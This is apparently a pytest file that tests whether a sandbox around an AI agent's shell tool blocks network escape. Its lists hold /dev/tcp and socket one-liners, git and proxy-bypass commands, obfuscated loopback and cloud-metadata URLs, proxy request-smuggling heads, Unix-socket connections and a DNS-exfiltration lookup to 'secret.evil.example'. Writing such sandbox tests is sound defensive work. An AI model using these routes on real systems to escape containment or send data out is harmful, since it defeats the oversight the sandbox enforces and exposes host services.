"""Attack 4: a way out of the sandbox into the network, or to a server on this machine.

The server counts who knocks. Each way is also tried without the sandbox, to show that it would arrive.
"""

import asyncio
import socket
from pathlib import Path

import pytest

from tests.attacks.door import Door
from tests.attacks.stage import Stage, rules, run_bare

CONNECT = "import socket; s = socket.create_connection(('{host}', {port}), 2); s.sendall(b'x'); s.recv(9)"
FETCH = (
    "import urllib.request as u;"
    " u.build_opener(u.ProxyHandler({{}})).open('http://{host}:{port}/', timeout=2)"
)

WAYS = [
    "echo x > /dev/tcp/127.0.0.1/{port}",
    "exec 3<> /dev/tcp/localhost/{port}; echo x >&3; cat <&3",
    "exec 3<> /dev/tcp/0.0.0.0/{port}; echo x >&3",
    "exec 3<> /dev/tcp/127.1/{port}; echo x >&3",
    'python3 -c "' + CONNECT.replace("{host}", "127.0.0.1") + '"',
    'python3 -c "' + CONNECT.replace("{host}", "localhost") + '"',
    'python3 -c "' + FETCH.replace("{host}", "127.0.0.1") + '"',
    'perl -MIO::Socket::INET -e \'print {{IO::Socket::INET->new("127.0.0.1:{port}")}} "x"\'',
    "git ls-remote http://127.0.0.1:{port}/x",
    "git -c http.proxy= ls-remote http://127.0.0.1:{port}/x",
    "env -u http_proxy -u https_proxy -u HTTP_PROXY git ls-remote git://127.0.0.1:{port}/x",
    "(exec 3<> /dev/tcp/127.0.0.1/{port}; echo x >&3) & wait",
    "unset http_proxy HTTP_PROXY; bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'",
]


@pytest.mark.parametrize("command", WAYS)
async def test_no_command_reaches_a_server_of_this_machine(stage: Stage, door: Door, command: str):
    command = command.format(port=door.port)

    await stage.shell(command)
    guarded = door.visits
    await asyncio.to_thread(run_bare, command, stage)

    assert (guarded, door.visits > 0) == (0, True)


# All of them by the proxy of the cell, as an honest program would do it.
PROXIED = (
    "import urllib.request as u, urllib.error, os\n"
    "try: print(u.urlopen('{url}', timeout=3).read())\n"
    "except urllib.error.HTTPError as e: print(e.code, e.read())\n"
)
REFUSED_URLS = [
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://LOCALHOST.:{port}/",
    "http://127.1:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://0.0.0.0:{port}/",
    "http://[::1]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://user@127.0.0.1:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/",
    "http://10.0.0.1/",
    "http://example.com/",
]


def fetch(url: str) -> str:
    """Return a command that fetches an address by the proxy that the environment names."""
    return f"unset no_proxy NO_PROXY; python3 - <<'END'\n{PROXIED.format(url=url)}END"


@pytest.mark.parametrize("url", REFUSED_URLS)
async def test_the_proxy_lets_no_host_pass_that_no_rule_allows(stage: Stage, door: Door, url: str):
    """Mode yolo allows everything that is not private, so this test uses mode ask."""
    seen = await stage.call("bash", {"command": fetch(url.format(port=door.port))}, (), "ask")

    assert ("403" in seen.text or "502" in seen.text, "arrived" in seen.text, door.visits) == (True, False, 0)


@pytest.mark.parametrize("url", REFUSED_URLS[:-1])
async def test_the_proxy_lets_no_private_address_pass_in_mode_yolo(stage: Stage, door: Door, url: str):
    seen = await stage.call("bash", {"command": fetch(url.format(port=door.port))}, (), "yolo")

    assert ("arrived" in seen.text, door.visits) == (False, 0)


@pytest.mark.parametrize(
    "rule", ["allow bash(domain:*)", "allow bash(domain:127.*)", "allow bash(domain:*.0.0.1)"]
)
async def test_a_broad_rule_opens_no_private_address(stage: Stage, door: Door, rule: str):
    url = f"http://127.0.0.1:{door.port}/"

    seen = await stage.call("bash", {"command": fetch(url)}, rules(rule), "ask")

    assert ("403" in seen.text, door.visits) == (True, 0)


async def test_a_rule_that_names_the_address_opens_it(stage: Stage, door: Door):
    """The control of the three tests above."""
    url = f"http://127.0.0.1:{door.port}/"

    seen = await stage.call("bash", {"command": fetch(url)}, rules("allow bash(domain:127.0.0.1)"), "ask")

    assert ("arrived" in seen.text, door.visits) == (True, 1)


async def test_a_denied_host_stays_denied_beside_a_rule_that_opens_all(stage: Stage, door: Door):
    url = f"http://127.0.0.1:{door.port}/"
    both = rules("allow bash(domain:127.0.0.1)", "deny bash(domain:127.0.0.1)")

    seen = await stage.shell(fetch(url), both)

    assert ("403" in seen.text, door.visits) == (True, 0)


SMUGGLED = [
    "CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n",
    "CONNECT allowed.example@127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n",
    "GET http://allowed.example:80@127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n",
    "GET http://allowed.example#@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
    "GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
    "GET //127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n",
    "GET http://127.0.0.1:{port}/ HTTP/1.1\\nHost: allowed.example\\n\\n",
    "CONNECT 127.0.0.1:{port}\\r\\n\\r\\n",
    "CONNECT [::ffff:7f00:1]:{port} HTTP/1.1\\r\\n\\r\\n",
]


@pytest.mark.parametrize("head", SMUGGLED)
async def test_no_request_is_smuggled_past_the_proxy(stage: Stage, door: Door, head: str):
    script = (
        "import os, socket, urllib.parse as p\n"
        "to = p.urlsplit(os.environ['http_proxy'])\n"
        "s = socket.create_connection((to.hostname, to.port), 3); s.settimeout(3)\n"
        f"s.sendall(b'{head.format(port=door.port)}')\n"
        "s.shutdown(socket.SHUT_WR); print(s.recv(999))\n"
    )

    seen = await stage.shell(f"python3 - <<'END'\n{script}END", rules("allow bash(domain:allowed.example)"))

    assert ("arrived" in seen.text, "200" in seen.text, door.visits) == (False, False, 0)


UNIX = (
    "import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(2);"
    " s.connect({address!r}); s.sendall(b'x'); s.recv(9)"
)


@pytest.mark.parametrize("kind", ["abstract", "below /tmp"])
async def test_no_unix_socket_outside_is_reached(stage: Stage, world: Path, kind: str, tmp_path: Path):
    """Those of a system lie below /run or /tmp, which a cell has for itself."""
    name = "\0bridle-attack-" + world.name if kind == "abstract" else str(tmp_path / "door")
    door = Door(socket.AF_UNIX, name)
    address = name.replace("\0", "\\0")
    command = f'python3 -c "{UNIX.format(address=address)}"'.replace("\\\\0", "\\0")

    await stage.shell(command)
    guarded = door.visits
    await asyncio.to_thread(run_bare, command, stage)
    unguarded = door.visits
    door.close()

    assert (guarded, unguarded) == (0, 1)


@pytest.mark.parametrize("folder", ["outside", "project"])
async def test_no_unix_socket_is_reached_through_the_read_only_root(stage: Stage, world: Path, folder: str):
    """A read-only mount does not keep anybody from using a socket: docker's would give the whole machine."""
    door = Door(socket.AF_UNIX, str(world / folder / "s"))
    command = f'cd ../{folder}; python3 -c "{UNIX.format(address="s")}"'

    await stage.shell(command)
    guarded = door.visits
    await asyncio.to_thread(run_bare, command, stage)
    unguarded = door.visits
    door.close()

    assert (guarded, unguarded) == (0, 1)


async def test_no_name_is_looked_up_from_inside(stage: Stage):
    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
    script = "import socket; socket.getaddrinfo('secret.evil.example', 80)"

    seen = await stage.shell(f'python3 -c "{script}"')
    alone = await stage.shell("tail -n +3 /proc/net/dev | cut -d: -f1")

    assert (seen.is_error, alone.text.split()) == (True, ["lo"])


@pytest.mark.parametrize("family", ["AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH"])
async def test_no_other_kind_of_socket_can_be_made(stage: Stage, family: str):
    script = f"import socket; socket.socket(socket.{family}, 3 if '{family}' == 'AF_PACKET' else 1)"

    assert (await stage.shell(f'python3 -c "{script}"')).is_error
